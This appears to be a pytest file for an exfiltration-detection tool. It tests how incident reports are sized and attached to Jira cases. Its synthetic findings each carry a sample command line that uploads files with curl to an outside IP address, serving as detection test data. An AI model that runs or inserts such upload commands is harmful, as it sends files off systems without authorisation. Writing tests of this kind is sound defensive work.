"""The report as a file of a case: the same for the same findings, and within what a case system takes."""

import asyncio
from dataclasses import replace
from pathlib import Path

import pytest

from exfilwatch.findings.store import Store
from exfilwatch_playbooks.cases.jira import Jira
from exfilwatch_playbooks.cases.opening import open_cases
from exfilwatch_playbooks.report.attachment import attachment

from ..cases.fakes import jira  # noqa: TID252 (tests are no package on the path)
from ..cases.fakes.fake import SECRET  # noqa: TID252 (tests are no package on the path)
from ..findings.made import make  # noqa: TID252 (tests are no package on the path)
from .incidents import together

FINDINGS = [
    make(f"event {n}", n / 60, CommandLine=f"curl -T /srv/{n}.pdf http://198.51.100.4/", Note="y" * 1_000)
    for n in range(400)
]


@pytest.mark.parametrize(("limit", "fits"), [(10_000_000, True), (700_000, True), (200_000, True), (2_000, False)])
def test_it_is_as_large_as_there_is_room(limit: int, fits: bool) -> None:
    file = attachment(together(FINDINGS), FINDINGS, {}, None, limit)
    assert (file is not None) is fits
    if file:
        assert len(file.content) <= limit
        assert b"400 events, in order of time" in file.content
        assert (b"not listed here" in file.content) is (limit < 1_000_000)


def test_the_same_findings_make_the_same_file() -> None:
    files = [attachment(together(FINDINGS), order, {}, None, 900_000) for order in (FINDINGS, FINDINGS[::-1])]
    assert files[0] == files[1]
    assert files[0].name.startswith("report-")
    assert files[0].name.endswith(".html")


def test_a_case_gets_it_beside_the_evidence_and_anew_with_what_comes_later(tmp_path: Path) -> None:
    fake = jira.Jira()
    settings = {
        "kind": "jira",
        "url": "https://tracker.test",
        "project": "SOC",
        "user": "soc@corp.test",
        "edition": "cloud",
    }
    chosen = Jira.Settings.model_validate(settings | {"token": SECRET, "attach": "evidence, report"})
    system = Jira("tracker", chosen, transport=fake.transport)
    store = Store(str(tmp_path / "kept.sqlite"))

    async def opened() -> tuple[str, list[str]]:
        (outcome,) = await open_cases(store, system)
        assert outcome.case, outcome.error
        return outcome.did, sorted(await system.attached(outcome.case.id))

    store.save([make("a")])
    did, files = asyncio.run(opened())
    assert (did, [name.partition("-")[0] for name in files]) == ("opened", ["evidence", "report"])
    store.save([make("b", 5)])
    did, files = asyncio.run(opened())
    assert (did, [name.partition("-")[0] for name in files]) == ("extended", ["evidence"] * 2 + ["report"] * 2)


def test_a_report_that_does_not_fit_is_said_and_costs_nothing_else(tmp_path: Path) -> None:
    fake = jira.Jira()
    settings = {
        "kind": "jira",
        "url": "https://tracker.test",
        "project": "SOC",
        "user": "soc@corp.test",
        "edition": "cloud",
    }
    chosen = Jira.Settings.model_validate(settings | {"token": SECRET, "attach": "evidence, report"})
    system = Jira("tracker", chosen, transport=fake.transport)
    system.capabilities = replace(system.capabilities, attachment_limit=5_000)
    store = Store(str(tmp_path / "kept.sqlite"))
    store.save([make("a")])
    (outcome,) = asyncio.run(open_cases(store, system))
    assert outcome.did == "opened", outcome.error
    assert "the report is not in the case of incident" in " ".join(outcome.remarks)
